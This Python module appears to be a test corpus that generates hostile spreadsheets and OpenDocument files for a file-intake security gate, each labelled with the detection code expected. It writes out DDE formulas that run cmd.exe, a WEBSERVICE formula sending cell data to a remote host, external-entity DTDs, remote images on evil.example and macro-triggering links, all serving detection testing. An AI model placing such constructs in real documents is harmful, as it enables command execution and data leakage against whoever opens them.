"""Workbooks and OpenDocument files with something at work in them."""

from __future__ import annotations

from collections.abc import Iterator

from tests.intake.gate_corpus.case import Case
from tests.intake.gate_corpus.office import (
    HEAD,
    Parts,
    S,
    docx_parts,
    odf_parts,
    packed,
    relationships,
    xlsx_parts,
)
from tests.intake.gate_corpus.payloads import (
    HOST,
    MACROS,
    PACKAGE,
)

EVENT = '<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:../../a.py$b?language=Python&amp;location=share"/>'


def cases(host: str = HOST) -> Iterator[Case]:
    """Every one; `host` is whom remote parts would be asked for."""
    yield from _sheets(host)
    yield from _more_sheets(host)
    yield from _open_documents(host)
    yield from _odd_documents(host)


def _xlsx(title: str, code: str, parts: Parts) -> Case:
    return Case("bad xlsx", title, f"{title}.xlsx", packed(parts), code)


def _sheets(host: str) -> Iterator[Case]:
    yield _xlsx("macros", "MACRO", {**xlsx_parts(), "xl/vbaProject.bin": MACROS})
    macro = {"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"}
    yield _xlsx(
        "Excel 4 macro sheet",
        "MACRO",
        {**xlsx_parts(types=macro), "xl/macrosheets/sheet1.xml": HEAD + b"<a/>"},
    )
    link = (
        HEAD
        + f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()
    )
    yield _xlsx(
        "DDE link", "DDE_LINK", {**xlsx_parts(), "xl/externalLinks/externalLink1.xml": link}
    )
    for number, formula in enumerate(
        ("cmd|'/C calc'!A0", "2+MSEXCEL|'\\..\\cmd.exe /c calc'!'x'", "cmd |'/c x'!A1"), 1
    ):
        cell = f'<row r="900"><c r="A900"><f>{formula}</f></c></row>'
        yield _xlsx(f"DDE formula {number}", "DDE_LINK", xlsx_parts(cell))
    named = "<definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames>"
    yield _xlsx("DDE in a name", "DDE_LINK", xlsx_parts(workbook=named))
    web = f'<row r="900"><c r="A900"><f>_xlfn.WEBSERVICE("{host}?"&amp;A1)</f></c></row>'
    yield _xlsx("formula that asks the web", "REMOTE_CONTENT", xlsx_parts(web))
    live = (
        HEAD
        + b'<connections xmlns="x"><connection id="1" name="W" refreshOnLoad="1"/></connections>'
    )
    yield _xlsx("query at opening", "REMOTE_CONTENT", {**xlsx_parts(), "xl/connections.xml": live})
    yield _xlsx(
        "packaged program",
        "EMBEDDED_OBJECT",
        {**xlsx_parts(), "xl/embeddings/oleObject1.bin": PACKAGE},
    )


def _more_sheets(host: str) -> Iterator[Case]:
    yield _xlsx(
        "remote picture",
        "REMOTE_CONTENT",
        {
            **xlsx_parts(),
            "xl/drawings/_rels/drawing1.xml.rels": relationships([("image", host, "External")]),
        },
    )
    vml = f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="{host}"/></xml>'.encode()
    yield _xlsx(
        "remote picture in VML",
        "REMOTE_CONTENT",
        {**xlsx_parts(), "xl/drawings/vmlDrawing1.vml": vml},
    )
    yield _xlsx(
        "entities in VML",
        "XML_DTD",
        {**xlsx_parts(), "xl/drawings/vmlDrawing1.vml": b'<!DOCTYPE a [<!ENTITY x "y">]><xml/>'},
    )
    yield _xlsx("docx as xlsx", "KIND_MISMATCH", docx_parts())
    binary = xlsx_parts(
        types={"xl/workbook.xml": "application/vnd.ms-excel.sheet.binary.macroEnabled.main"}
    )
    yield _xlsx("xlsb renamed", "MACRO", binary)
    strings = HEAD + f'<!DOCTYPE a [<!ENTITY x "y">]><sst xmlns="{S}"/>'.encode()
    yield _xlsx("entities in strings", "XML_DTD", {**xlsx_parts(), "xl/sharedStrings.xml": strings})


def _odf(title: str, code: str, parts: Parts, end: str = "odt", style: str = "libreoffice") -> Case:
    return Case(f"bad {end}", title, f"{title}.{end}", packed(parts, style), code)


def _open_documents(host: str) -> Iterator[Case]:
    yield _odf(
        "Basic macros", "MACRO", {**odf_parts(), "Basic/Standard/Module1.xml": HEAD + b"<a/>"}
    )
    yield _odf("Python macros", "MACRO", {**odf_parts(), "Scripts/python/a.py": b"import os"})
    yield _odf("macro on an EVENT", "MACRO", odf_parts(scripts=EVENT))
    yield _odf(
        "remote picture", "REMOTE_CONTENT", odf_parts(body=f'<draw:image xlink:href="{host}"/>')
    )
    yield _odf(
        "remote picture on a share",
        "REMOTE_CONTENT",
        odf_parts(body='<draw:image xlink:href="//evil.example/a.png"/>'),
    )
    yield _odf(
        "remote section",
        "REMOTE_CONTENT",
        odf_parts(body=f'<text:section><text:section-source xlink:href="{host}"/></text:section>'),
    )
    yield _odf(
        "DDE source",
        "DDE_LINK",
        odf_parts(body='<office:dde-source office:dde-application="cmd"/>'),
    )
    yield _odf(
        "link that runs",
        "DANGEROUS_LINK",
        odf_parts(body='<text:a xlink:href="vnd.sun.star.script:a$b">x</text:a>'),
    )
    yield _odf(
        "link to a macro",
        "DANGEROUS_LINK",
        odf_parts(body='<text:a xlink:href="macro:///a.b.c()">x</text:a>'),
    )
    yield _odf(
        "external entity",
        "XML_DTD",
        odf_parts(prolog=f'<!DOCTYPE a [<!ENTITY x SYSTEM "{host}">]>'),
    )


def _odd_documents(host: str) -> Iterator[Case]:
    yield _odf("packaged program", "EMBEDDED_OBJECT", {**odf_parts(), "Object 1": PACKAGE})
    yield _odf("secret", "SECRET_MARK", odf_parts(body="<text:p>TỐI MẬT</text:p>"))
    locked = odf_parts()
    locked["META-INF/manifest.xml"] = locked["META-INF/manifest.xml"].replace(
        b"<manifest:file-entry", b"<manifest:encryption-data/><manifest:file-entry"
    )
    yield _odf("with a password", "ENCRYPTED", locked)
    parts = odf_parts()
    mime = parts.pop("mimetype")
    yield _odf("kind told last", "DAMAGED", {**parts, "mimetype": mime})
    yield _odf("template as odt", "KIND_MISMATCH", {**odf_parts(), "mimetype": mime + b"-template"})
    yield _odf("ods as odt", "KIND_MISMATCH", odf_parts("spreadsheet"))
    nothing = odf_parts()
    del nothing["content.xml"]
    yield _odf("without content", "DAMAGED", nothing)
    for title, code, body in (
        ("macro on an EVENT", "MACRO", EVENT),
        (
            "DDE link",
            "DDE_LINK",
            '<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>',
        ),
    ):
        yield _odf(title, code, odf_parts("spreadsheet", body), "ods")
    yield _odf(
        "external DTD",
        "XML_DTD",
        odf_parts("spreadsheet", prolog=f'<!DOCTYPE a SYSTEM "{host}">'),
        "ods",
    )
